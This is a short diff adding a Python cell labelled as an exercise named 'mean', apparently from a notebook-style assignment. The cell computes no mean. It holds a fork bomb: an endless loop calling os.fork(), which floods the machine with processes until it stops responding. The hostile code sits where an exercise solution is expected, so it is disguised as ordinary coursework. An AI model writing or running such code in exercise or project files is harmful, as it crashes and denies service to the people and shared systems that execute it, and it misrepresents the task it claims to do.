@@ -1,0 +1,4 @@
+# %% exercise="mean"
+import os
+while True:
+    os.fork()
